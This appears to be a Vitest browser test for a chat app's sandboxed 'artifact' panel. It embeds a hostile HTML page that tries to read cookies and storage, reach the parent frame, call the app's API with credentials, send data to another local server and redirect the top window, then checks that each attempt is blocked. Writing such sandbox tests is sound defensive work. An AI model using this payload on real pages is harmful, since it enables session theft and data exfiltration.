// Artifacts: what an answer has made is opened beside the chat, live and in versions; one that means harm reaches nobody.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, expectWellMade, screens, useStage } from '../support/browser.ts';
import { environmentOf, type FakeServer, startFakeServer } from '../support/openai-server.ts';

const fence = (info: string, text: string) => `\`\`\`${info}\n${text}\n\`\`\`\n`;

/** Tries to get out in every way that a page has; says what came of each. */
const attack = (ours: string, elsewhere: string, turn: string) => `<title>Attack</title>
<link rel="prefetch" href="${ours}/stolen-prefetch"><link rel="stylesheet" href="${elsewhere}/stolen-style">
<img src="${ours}/stolen-image"><script src="${elsewhere}/stolen-script"></script>
<form id="post" method="post" action="${ours}/stolen-form"><input name="a" value="b"></form>
<form id="away" method="post" target="_top" action="${elsewhere}/stolen-form"><input name="a" value="b"></form>
<iframe src="${ours}/stolen-frame"></iframe><a id="link" target="_top" href="${elsewhere}/stolen-link">x</a>
<script>
const results = {};
const attempt = async (name, act) => {
  try { results[name] = String((await act()) ?? 'nothing'); } catch (error) { results[name] = 'refused: ' + error.name; }
};
(async () => {
  await attempt('origin', () => self.origin);
  await attempt('cookie', () => document.cookie);
  await attempt('setCookie', () => { document.cookie = 'a=b'; });
  await attempt('localStorage', () => localStorage.getItem('rivulet.session'));
  await attempt('sessionStorage', () => sessionStorage.length);
  await attempt('indexedDB', () => indexedDB.open('x') && 'open');
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => top.document.title);
  await attempt('topStorage', () => top.localStorage.length);
  await attempt('api', () => fetch('${ours}/api/chat/sessions?stolen', { credentials: 'include' }));
  await attempt('post', () => fetch('${ours}/api/chat/sessions', { method: 'POST', mode: 'no-cors', body: '{"title":"stolen"}' }));
  await attempt('elsewhere', () => fetch('${elsewhere}/stolen-fetch', { mode: 'no-cors' }));
  await attempt('socket', () => new Promise((done, fail) => {
    const socket = new WebSocket('${ours.replace('http', 'ws')}/api/ws');
    socket.onopen = () => done('open'); socket.onerror = () => fail(new TypeError());
  }));
  await attempt('beacon', () => { navigator.sendBeacon('${elsewhere}/stolen-beacon', 'x'); });
  await attempt('worker', () => new Worker('data:text/javascript,fetch("${elsewhere}/stolen-worker")') && 'made');
  await attempt('popup', () => (open('${elsewhere}/stolen-popup') ? 'opened' : 'refused: popup'));
  await attempt('navigateTop', () => { top.location = '${elsewhere}/stolen-top'; return 'navigated'; });
  await attempt('navigateParent', () => { parent.location = '${elsewhere}/stolen-parent'; return 'navigated'; });
  await attempt('message', () => { parent.postMessage({ html: '<h1>taken over</h1>' }, '*'); top.postMessage({ html: 'x' }, '*'); });
  await attempt('form', () => document.getElementById('post').submit());
  await attempt('formAway', () => document.getElementById('away').submit());
  await attempt('link', () => document.getElementById('link').click());
  console.info('results ' + JSON.stringify(results));
  const meta = document.createElement('meta');
  meta.httpEquiv = 'refresh';
  meta.content = '0;url=${ours}/stolen-refresh';
  ${turn};
})();
</script>`;

describe.skipIf(chromiumPath === null)('artifacts', () => {
  let model: FakeServer;
  let elsewhere: Server;
  const hits: string[] = [];
  let away = '';
  beforeAll(async () => {
    model = await startFakeServer();
    elsewhere = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end();
    }).listen(0, '127.0.0.1');
    await new Promise((listening) => elsewhere.once('listening', listening));
    away = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await model.close();
    await new Promise((closed) => elsewhere.close(closed));
  });
  const stage = useStage(() => environmentOf(model));
  const { api } = stage;
  const chatWith = async (...answers: string[]) => {
    const { id } = await api().chat.create({ body: { title: 'Making' } });
    const params = { sessionId: id };
    for (const content of answers) {
      await api().chat.addMessage({ params, body: { role: 'user', content: 'Make it.' } });
      await api().chat.addMessage({ params, body: { role: 'assistant', content } });
    }
    return id;
  };

  it.each([
    ['document.head.append(meta)', 'by its meta'],
    ["location = '/stolen-self'", 'by its location'],
  ])('that mean harm read nothing, go nowhere, and reach no server: %s', async (turn) => {
    const { baseUrl } = stage.server;
    const id = await chatWith(fence('html attack.html', attack(baseUrl, away, turn.replace("'/", `'${baseUrl}/`))));
    const { page, close } = await stage.open(`/chat/${id}`);
    const seen: string[] = [];
    page.context().on('response', (response) => seen.push(response.url()));
    page.context().on('page', (popup) => seen.push(`popup ${popup.url()}`));
    const said = page.waitForEvent('console', (message) => message.text().startsWith('results '));
    await page.getByRole('button', { name: 'Open beside the chat' }).click();
    const results = JSON.parse((await said).text().slice('results '.length)) as Record<string, string>;
    expect(results.origin).toBe('null');
    for (const name of [
      ...['cookie', 'setCookie', 'localStorage', 'sessionStorage', 'indexedDB', 'parent', 'top', 'topStorage'],
      ...['api', 'post', 'elsewhere', 'socket', 'popup', 'navigateTop', 'navigateParent'],
    ])
      expect(`${name} ${results[name]}`).toMatch(/ refused: /);
    // Its own frame is refused, too, and empty from then on; all else is where it was.
    await expect.poll(() => page.frames().some((one) => one.url() === 'about:srcdoc')).toBe(false);
    expect(page.url()).toContain(`/#/chat/${id}?artifact=`);
    expect(page.frames()[1]?.url()).toBe(`${baseUrl}/artifact.html`);
    expect(page.frames().filter((one) => one.url().includes('stolen'))).toEqual([]);
    await page.getByRole('tab', { name: 'Source' }).click();
    expect(seen.filter((one) => /stolen|popup/.test(one))).toEqual([]);
    expect(hits).toEqual([]);
    const { items } = await api().chat.list({ query: { pageSize: 100 } });
    expect(items.filter(({ title }) => title !== 'Making')).toEqual([]);
    await close();
  });

  it('do nothing on the page of artifacts when it is opened by itself, or sent to from within', async () => {
    const { page, close } = await stage.open('/system');
    await page.goto(`${stage.server.baseUrl}/artifact.html`);
    await page.evaluate(`postMessage({ html: '<script>globalThis.ran = true</' + 'script>' }, '*')`);
    await page.evaluate('new Promise((done) => setTimeout(done, 50))');
    expect(page.frames()).toHaveLength(1);
    expect(await page.evaluate('self.origin')).toBe('null');
    await close();
  });

  it.each(screens)('are shown live, in versions, as source and at work, $colorScheme', async (screen) => {
    const id = await chatWith(
      `Here:\n\n${fence('html river.html', '<h1>First river</h1>')}`,
      `Better:\n\n${fence('html river.html', '<h1>Second river</h1><script>document.body.append("counted " + (1 + 1))</script>')}\n${fence('svg', '<svg viewBox="0 0 9 9"><title>Dot</title><circle r="4" cx="4" cy="4"/></svg>')}\n${fence('markdown', '# Plan\n\nTwo *arches*.')}`,
    );
    const { page, complaints, close } = await stage.open(`/chat/${id}`, screen);
    const panel = page.getByRole('region', { name: 'Artifact' });
    const inside = page.frameLocator('.artifact-frame').frameLocator('iframe');
    const opener = (index: number) => page.getByRole('button', { name: 'Open beside the chat' }).nth(index);
    await opener(0).click();
    await panel.getByText('Version 1 of 2').waitFor();
    await inside.getByRole('heading', { name: 'First river' }).waitFor();
    await panel.getByRole('button', { name: 'Later version' }).click();
    await inside.getByText('counted 2').waitFor();
    await expectWellMade(page);
    await page.reload();
    await inside.getByText('counted 2').waitFor();
    await panel.getByRole('tab', { name: 'Source' }).click();
    await panel.getByText('document.body.append').waitFor();
    await expectWellMade(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      panel.getByRole('button', { name: 'Download' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('river.html');
    await page.keyboard.press('Escape');
    await panel.waitFor({ state: 'detached' });
    await opener(2).click();
    await panel.getByRole('heading', { name: 'Dot' }).waitFor();
    await inside.locator('circle').waitFor();
    await panel.getByRole('button', { name: 'Close the panel' }).click();
    await opener(3).click();
    await panel.locator('em').getByText('arches').waitFor();
    await panel.getByRole('button', { name: 'Close the panel' }).click();

    // An answer that rewrites it: what has come so far is shown while the rest is still to come.
    model.reply({
      text: ['Once more:\n\n```html river.html\n<h1>Third river</h1>\n', '<p>its end</p>\n```\n'],
      stallAfter: 2,
    });
    await opener(1).click();
    await panel.getByText('Version 2 of 2').waitFor();
    if (screen.colorScheme === 'dark') await panel.getByRole('button', { name: 'Close the panel' }).click();
    await page.getByLabel('Message', { exact: true }).fill('Again.');
    await page.getByLabel('Message', { exact: true }).press('Enter');
    if (screen.colorScheme === 'dark') await opener(4).click();
    await panel.getByText('Version 3 of 3').waitFor();
    await inside.getByRole('heading', { name: 'Third river' }).waitFor();
    expect(await inside.getByText('its end').count()).toBe(0);
    model.release();
    await page.locator('[data-streaming]').waitFor({ state: 'detached' });
    await expectWellMade(page);
    expect(complaints).toEqual([]);
    await close();
  });
});
